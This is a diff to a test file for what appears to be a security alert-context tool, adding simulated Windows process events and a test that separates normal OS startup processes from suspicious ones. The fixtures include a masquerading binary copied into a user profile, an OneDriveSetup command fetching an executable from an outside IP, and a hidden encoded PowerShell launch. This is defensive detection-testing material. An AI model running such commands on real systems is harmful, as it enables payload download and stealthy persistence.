@@ -50,6 +50,18 @@ describe('context leaves out the operating system\'s own processes', () => {
     // a leaf the stager starts the same millisecond
     p('10:00:08.000', 922, 920, `${S}\\cmd.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'cmd.exe /c reg add HKCU\\Software\\Updater /v Debug /f', ...erin);
     p('10:00:09.000', 924, 920, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...erin);
+    // what a clean install starts with the shell (the Windows Security tray icon, OneDrive's first-run
+    // set-up and its copy for the user), what that set-up installs in her profile, a tray icon copied
+    // into her profile and the set-up started with other arguments
+    const W64 = 'C:\\Windows\\SysWOW64';
+    p('10:00:03.000', 940, 904, `${S}\\SecurityHealthSystray.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\System32\\SecurityHealthSystray.exe" ', ...erin);
+    p('10:00:03.500', 942, 904, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /thfirstsetup', ...erin);
+    p('10:00:04.000', 944, 942, `${W64}\\OneDriveSetup.exe`, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\SysWOW64\\OneDriveSetup.exe /thfirstsetup  /peruser  /childprocess ', ...erin);
+    p('10:00:30.000', 946, 944, 'C:\\Users\\erin\\AppData\\Local\\Microsoft\\OneDrive\\FileSyncConfig.exe', `${W64}\\OneDriveSetup.exe`,
+      '"C:\\Users\\erin\\AppData\\Local\\Microsoft\\OneDrive\\FileSyncConfig.exe" ', ...erin);
+    p('10:00:05.000', 948, 904, 'C:\\Users\\erin\\AppData\\Roaming\\SecurityHealthSystray.exe', 'C:\\Windows\\explorer.exe',
+      '"C:\\Users\\erin\\AppData\\Roaming\\SecurityHealthSystray.exe" ', ...erin);
+    p('10:03:00.000', 950, 904, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /silent /update http://203.0.113.9/od.exe', ...erin);
     p('10:04:00.000', 928, 904, `${S}\\notepad.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\erin\\Desktop\\plan.txt', ...erin);
     p('10:05:00.000', 932, 924, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, '"C:\\Windows\\system32\\whoami.exe" /groups', ...erin);
     // the server's boot: the session manager, wininit, the service control manager, two service hosts:
@@ -109,6 +121,16 @@ describe('context leaves out the operating system\'s own processes', () => {
     expect(fake).toBeDefined();
     expect(item(fake, 'system32\\userinit.exe')!.reason).toMatch(/^parent of the alert process; /);
     expect(item(fake, 'ProgramData\\winlogon.exe')!.reason).toMatch(/^ancestor of the alert process; /);
+  });
+
+  it('never lists what a clean install starts with the shell; a copy, other arguments and what it installs in the profile are judged', () => {
+    const r = report('core-runkey');
+    expect(lines(r)).not.toContain('"C:\\Windows\\System32\\SecurityHealthSystray.exe" ');
+    expect(lines(r)).not.toContain('"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /thfirstsetup');
+    expect(lines(r).filter((l) => l.includes('/childprocess'))).toEqual([]);
+    expect(item(r, 'AppData\\Roaming\\SecurityHealthSystray.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; template on 0 of 10 hosts/);
+    expect(item(r, 'OneDrive\\FileSyncConfig.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
+    expect(item(r, 'OneDriveSetup.exe" /silent /update')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
   });
 
   it('never lists the boot chain; every service host is judged like any process', () => {
